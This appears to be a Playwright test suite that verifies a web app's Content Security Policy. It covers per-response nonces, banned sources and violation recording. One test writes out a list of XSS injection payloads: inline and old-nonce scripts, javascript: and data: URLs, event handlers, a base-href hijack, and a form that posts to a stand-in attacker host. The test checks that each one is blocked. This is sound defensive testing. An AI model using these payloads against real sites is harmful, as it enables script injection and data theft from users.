// The Content Security Policy: no page violates it, and injected scripts do not run (ASVS 3.4.3).

import type { BrowserContext, Page } from "@playwright/test";

// <explorer>
import { setValue } from "../explorer";
// </explorer>
import { errors, expect, open, submit, waitForHydration } from "../fixtures";
import { defaultServer } from "../servers";
import { appOrigin, attackerHosts, callApi, cookieHeader, documentedPages, openSignedIn, test } from "./hostile";

test.beforeEach(() => test.setTimeout(120_000));

test("no page violates the policy when a guest opens its sections and sends its forms", async ({ page, allowConsole }) => {
  allowConsole(/status of 4\d\d/);
  const violations = await recordViolations(page.context());
  for (const path of await allPages(page)) {
    await open(page, path);
    await openSections(page);
  }
  await sendForms(page);
  expect(violations).toEqual([]);
});

// Security: 3.4.3
test("no page violates the policy when a user opens its sections and sends its forms", async ({ page, account, allowConsole }) => {
  allowConsole(/status of 4\d\d/);
  const violations = await recordViolations(page.context());
  await openSignedIn(page, account);
  for (const path of await allPages(page)) {
    await open(page, path);
    await openSections(page);
    await waitForHydration(page);
  }
  await page.getByRole("link", { name: "Satchel" }).first().click();
  await expect(page).toHaveURL("/");
  await sendForms(page);
  await open(page, "/account");
  await page.getByLabel("Name", { exact: true }).fill("");
  await submit(page.getByRole("button", { name: "Change name" }));
  await expect(errors(page).first()).toBeVisible();
  await page.getByLabel("New password", { exact: true }).pressSequentially("four-words");
  await submit(page.getByRole("banner").getByRole("button", { name: "Sign out" }));
  await expect(page.getByRole("link", { name: "Sign in" })).toBeVisible();
  expect(violations).toEqual([]);
});

// Security: 3.4.3
test("each response has its own nonce and allows no unsafe source", { tag: "@js" }, async ({ page, account }) => {
  await openSignedIn(page, account);
  const cookie = await cookieHeader(page.context());
  const nonces: string[] = [];
  for (const path of [...(await allPages(page)), ...(await allPages(page))]) {
    for (const as of ["", cookie]) {
      const response = await fetch(defaultServer + path, { headers: { cookie: as }, redirect: "manual" });
      const policy = directives(response.headers.get("content-security-policy") ?? "");
      expect(policy.get("default-src"), path).toEqual(["'none'"]);
      expect(policy.get("base-uri"), path).toEqual(["'none'"]);
      expect(policy.get("object-src") ?? policy.get("default-src"), path).toEqual(["'none'"]);
      expect(policy.get("frame-ancestors"), path).toEqual(["'none'"]);
      expect([["'self'"], ["'none'"]]).toContainEqual(policy.get("form-action"));
      const allowed = [...policy.values()].flat();
      for (const source of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "*", "data:", "blob:", "http:", "https:"]) {
        expect(allowed, path).not.toContain(source);
      }
      if (response.status === 303 || response.status === 302) continue;

      const own = allowed.flatMap((source) => /^'nonce-(.+)'$/.exec(source)?.slice(1) ?? []);
      expect(own, path).toHaveLength(1);
      nonces.push(...own);
      const html = await response.text();
      const scripts = [...html.matchAll(/<script\b([^>]*)>/g)].map(([, attributes = ""]) => attributes);
      expect(scripts.length, path).toBeGreaterThan(0);
      for (const attributes of scripts) expect(attributes, path).toContain(`nonce="${own[0]}"`);
      expect(html.match(/\s(style|on[a-z]+)="/g) ?? [], path).toEqual([]);
    }
  }
  expect(new Set(nonces).size).toBe(nonces.length);
  for (const nonce of nonces) expect(Buffer.from(nonce, "base64").length, nonce).toBeGreaterThanOrEqual(16);
});

// Security: 3.4.3
test("injected code does not run, even with an old nonce", { tag: "@js" }, async ({ page, attackerSite, allowConsole }) => {
  allowConsole(/Content Security Policy|violates the following|blocked|Refused to|net::ERR_|nothing-here/);
  const called: string[] = [];
  await page.context().exposeBinding("pwned", (_, how: string) => called.push(how));
  const before = await fetch(`${defaultServer}/login`);
  const old = /'nonce-([^']+)'/.exec(before.headers.get("content-security-policy") ?? "")?.[1];
  expect(old).toBeTruthy();
  const evil = attackerSite.origin(attackerHosts["another site"]);
  const injected = `
    <script>pwned("inline")</script>
    <script nonce="">pwned("empty nonce")</script>
    <script nonce="${old}">pwned("old nonce")</script>
    <script src="${evil}/x.js"></script>
    <script src="data:text/javascript,pwned('data')"></script>
    <script type="module">pwned("module")</script>
    <img src="/nothing-here.png" onerror="pwned('handler')">
    <svg onload="pwned('svg')"></svg>
    <a id="lure" href="javascript:pwned('link')">link</a>
    <iframe src="javascript:pwned('frame')"></iframe>
    <iframe srcdoc="<script>parent.pwned('srcdoc')</script>"></iframe>
    <iframe src="${evil}/frame"></iframe>
    <object data="${evil}/object"></object>
    <embed src="${evil}/embed">
    <link rel="stylesheet" href="${evil}/style.css">
    <style>body { background: url(${evil}/background) }</style>
    <img src="${evil}/image">
    <form id="stolen" action="${evil}/form" method="post"><button>Send it</button></form>
    <p id="eval" data-x="1">in</p>`;
  await page.route("**/login", async (route) => {
    const response = await fetch(defaultServer + new URL(route.request().url()).pathname);
    // Removes the app's own scripts, which would fail on the changed page.
    const page = (await response.text()).replace(/<script[\s\S]*?<\/script>/g, "");
    const html = page.replace("<head>", `<head><base href="${evil}/">`).replace("</body>", `${injected}</body>`);
    await route.fulfill({ status: 200, headers: Object.fromEntries(response.headers), body: html });
  });
  await page.goto("/login");
  await expect(page.locator("#eval").first()).toBeVisible();
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "pwned('added')";
    document.body.append(script);
    const image = document.createElement("img");
    image.setAttribute("onerror", "pwned('added handler')");
    image.src = "/nothing-here.png";
    document.body.append(image);
  });
  // These run as scripts of the page, so the policy applies to them.
  await expect.poll(() => page.evaluate(() => document.images.length >= 3 && [...document.images].every((image) => image.complete))).toBe(true);
  await expect(page.evaluate((url) => fetch(url, { mode: "no-cors" }), `${evil}/fetch`)).rejects.toThrow();
  expect(await page.evaluate(() => document.baseURI)).toBe(`${appOrigin}/login`);
  for (const [pressed, directive] of [["#lure", "script-src"], ["#stolen button", "form-action"]] as const) {
    const refused = page.waitForEvent("console", (message) => message.text().includes(directive));
    await page.locator(pressed).first().click({ noWaitAfter: true });
    await refused;
  }
  expect(called).toEqual([]);
  expect(attackerSite.requests).toEqual([]);
});

/** Records violations of the policy. Without JavaScript they are in the console, which every test checks. */
async function recordViolations(context: BrowserContext) {
  const violations: string[] = [];
  await context.exposeBinding("violated", (_, what: string) => violations.push(what));
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const what = `${document.URL}: ${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber} ${event.sample}`;
      (window as unknown as { violated: (what: string) => void }).violated(what);
    });
  });
  return violations;
}

/** The pages in docs/interface.md, and one that does not exist. */
async function allPages(page: Page) {
  const ids: Record<string, string> = {};
  const cookie = await cookieHeader(page.context());
  const visitor = await callApi(cookie, "/api/visitor/peek");
  expect(visitor.status).toBe(200);
  // <shop>
  ids["/products/{id}"] = "/products/1";
  ids["/orders/{id}"] = visitor.value.user ? `/orders/${await firstOrderId(cookie)}` : "/orders/1";
  // </shop>
  const all = documentedPages().map((path) => ids[path] ?? path);
  expect(all.length).toBeGreaterThan(6);
  expect(all.filter((path) => path.includes("{"))).toEqual([]);
  // <explorer>
  all.push("/session?key=email");
  // </explorer>
  return [...all, "/nothing-here"];
}

// <shop>
/** The id of the visitor's first order. Places one if there is none. */
async function firstOrderId(cookie: string): Promise<string> {
  const { value: orders } = await callApi(cookie, "/api/orders/list");
  if (orders.length > 0) return orders[0].id;
  await callApi(cookie, "/api/cart/add", { product: "1" });
  const placed = await callApi(cookie, "/api/orders/place", { token: "an-order-for-the-policy" });
  expect(placed.status).toBe(200);
  return placed.value.id;
}
// </shop>

async function openSections(page: Page) {
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  for (const section of await page.locator("summary").all()) {
    await section.click();
    await expect(section.locator("xpath=..").locator("pre").first()).toBeVisible();
  }
}

/** Sends valid forms, invalid forms, and one in the header. */
async function sendForms(page: Page) {
  // <explorer>
  await open(page, "/session");
  await setValue(page, "email", "ada@example.com");
  await waitForHydration(page);
  // </explorer>
  await open(page, "/login");
  await submit(page.getByRole("button", { name: "Dark" }));
  await expect(page.locator("html")).toHaveAttribute("data-theme", "dark");
  // <cookies>
  await open(page, "/cookies");
  await submit(page.getByRole("button", { name: "Set cookie" }));
  await expect(errors(page).first()).toBeVisible();
  // </cookies>
  // <visits>
  await open(page, "/visits");
  await submit(page.getByRole("button", { name: "Reset" }));
  // </visits>
  // <shop>
  await open(page, "/");
  await submit(page.getByRole("button", { name: "Add to cart" }).first());
  await open(page, "/cart");
  await submit(page.getByRole("button", { name: /^Remove/ }).first());
  // </shop>
}

function directives(policy: string) {
  return new Map(
    policy.split(";").map((directive) => {
      const [name = "", ...sources] = directive.trim().split(/\s+/);
      return [name, sources] as const;
    }),
  );
}
